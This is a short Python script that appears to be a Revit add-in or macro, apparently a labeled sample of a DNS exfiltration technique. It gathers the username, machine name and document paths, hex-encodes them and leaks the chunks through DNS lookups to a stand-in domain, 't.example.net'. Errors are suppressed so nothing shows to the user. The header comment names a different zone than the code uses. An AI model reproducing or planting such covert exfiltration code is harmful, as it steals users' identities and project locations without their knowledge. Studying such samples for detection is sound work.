# technique: DNS exfiltration: hex-encodes document path, user and machine name and leaks chunks via socket.gethostbyname(chunk + '.x.example.net')
import binascii
import getpass
import platform
import socket
from Autodesk.Revit.DB import ModelPathUtils

doc = __revit__.ActiveUIDocument.Document
ZONE = ".t.example.net"


def _chunks(s, n=60):
    return [s[i:i + n] for i in range(0, len(s), n)]


def _beacon(payload):
    enc = binascii.hexlify(payload.encode()).decode()
    for i, part in enumerate(_chunks(enc)):
        try:
            socket.gethostbyname("%d-%s%s" % (i, part, ZONE))
        except socket.error:
            pass


central = ""
if doc.IsWorkshared:
    central = ModelPathUtils.ConvertModelPathToUserVisiblePath(doc.GetWorksharingCentralModelPath())
_beacon("|".join([getpass.getuser(), platform.node(), doc.PathName, central]))
